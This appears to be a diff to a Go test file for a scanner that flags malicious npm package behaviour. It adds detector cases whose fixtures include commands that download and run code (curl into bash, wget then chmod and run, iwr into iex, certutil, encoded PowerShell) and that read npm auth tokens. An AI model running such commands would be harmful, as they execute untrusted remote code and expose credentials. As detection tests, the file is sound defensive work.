@@ -104,6 +104,29 @@ func TestContentDetectors(t *testing.T) {
 		{name: "uuid regex is fine", new: ctAppend("const re = /id_[A-Za-z0-9]{36}/;"), id: CredentialAccess},
 		{name: "secret named in the README only", new: ctWith(map[string]string{"README.md": "# fx\n\nSet NPM_TOKEN and GITHUB_TOKEN.\n"}), id: CredentialAccess},
 
+		// credential-access: npm's own token through its config
+		{name: "npm_config__authToken", new: ctAppend("const t = process.env.npm_config__authToken;"), id: CredentialAccess, want: true, sev: High},
+		{name: "npm config get of a token", new: ctAppend("const t = execSync('npm config get //registry.npmjs.org/:_authToken');"), id: CredentialAccess, want: true},
+		{name: "npm config get registry is fine", new: ctAppend("const r = execSync('npm config get registry');"), id: CredentialAccess},
+		{name: "npm lifecycle variables are fine", new: ctAppend("const e = process.env.npm_lifecycle_event;", "const n = process.env.npm_package_name;"), id: CredentialAccess},
+
+		// dynamic-code: download and execute, anywhere
+		{name: "curl piped into bash", new: ctAppend("execSync('curl -s https://cdn.example.invalid/p.sh | bash');"), id: DynamicCode, want: true, sev: High, inTitle: "downloads and runs"},
+		{name: "wget then chmod", new: ctAppend("run('wget -q -O /tmp/x https://a.example.invalid/x && chmod +x /tmp/x && /tmp/x');"), id: DynamicCode, want: true},
+		{name: "iwr into iex", new: ctAppend("spawn('powershell', ['-c', 'iwr https://a.example.invalid/p.ps1 | iex']);"), id: DynamicCode, want: true},
+		{name: "certutil urlcache", new: ctWith(map[string]string{"setup.bat": "certutil -urlcache -split -f http://198.51.100.7/x.exe x.exe\r\n"}), id: DynamicCode, want: true},
+		{name: "powershell -enc", new: ctAppend("exec('powershell.exe -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0A');"), id: DynamicCode, want: true},
+		{name: "curl to a file is not execution", new: ctAppend("execSync('curl -sSfo out.json https://api.example.invalid/data');"), id: DynamicCode},
+		{name: "curl | sh in a comment", new: ctAppend("// install with: curl -fsSL https://get.example.invalid | sh"), id: DynamicCode},
+		{name: "curl | sh in a README", new: ctWith(map[string]string{"README.md": "curl -fsSL https://get.example.invalid | sh\n"}), id: DynamicCode},
+		{name: "curl | sh in a Dockerfile runs on a build machine", new: ctWith(map[string]string{"Dockerfile": "RUN curl -fsSL https://deb.example.invalid/setup | bash -\n"}), id: DynamicCode},
+		{name: "curl | sh in a workflow", new: ctWith(map[string]string{".github/workflows/ci.yml": "    - run: curl -LsSf https://astral.example.invalid/install.sh | sh\n"}), id: DynamicCode},
+
+		// dynamic-code: WebAssembly of fetched or decoded bytes
+		{name: "wasm from fetch", new: ctAppend("const { instance } = await WebAssembly.instantiateStreaming(fetch('https://a.example.invalid/p.wasm'));"), id: DynamicCode, want: true, inTitle: "WebAssembly"},
+		{name: "wasm from base64", new: ctAppend("const bytes = Buffer.from(blob, 'base64');", "const m = await WebAssembly.compile(bytes);"), id: DynamicCode, want: true},
+		{name: "wasm from a local file is fine", new: ctAppend("const bytes = fs.readFileSync(path.join(__dirname, 'a.wasm'));", "const m = await WebAssembly.compile(bytes);"), id: DynamicCode},
+
 		// dynamic-code
 		{name: "eval of fetched data", new: ctAppend("https.get(url, (r) => {", "  r.on('data', (c) => { eval(c); });", "});"), id: DynamicCode, want: true, sev: High, inTitle: "eval"},
 		{name: "eval at a line start with a decode", new: ctAppend("const s = atob(blob);", "eval(s);"), id: DynamicCode, want: true},
@@ -290,7 +313,8 @@ func TestContentDemo(t *testing.T) {
 		"scopewalk@2.1.2": {CredentialAccess, DynamicCode, Persistence, NewEndpoint, ProcessSpawn},
 		"@acme/router@1.5.2": {RunnerTokenAccess, CredentialAccess, NewEndpoint,
 			Persistence}, // router_init.js holds `rm -rf ~` (the README lists it; not a quiet id)
-		"qlimit@1.2.1": {SelfPropagation, RunnerTokenAccess, CredentialAccess, Persistence, NewEndpoint, ProcessSpawn},
+		"qlimit@1.2.1": {SelfPropagation, RunnerTokenAccess, CredentialAccess, Persistence, NewEndpoint, ProcessSpawn,
+			DynamicCode}, // setup_bun.js pipes curl into bash
 	}
 	// Where the README lists an id, where it must show.
 	where := map[string]map[string]string{
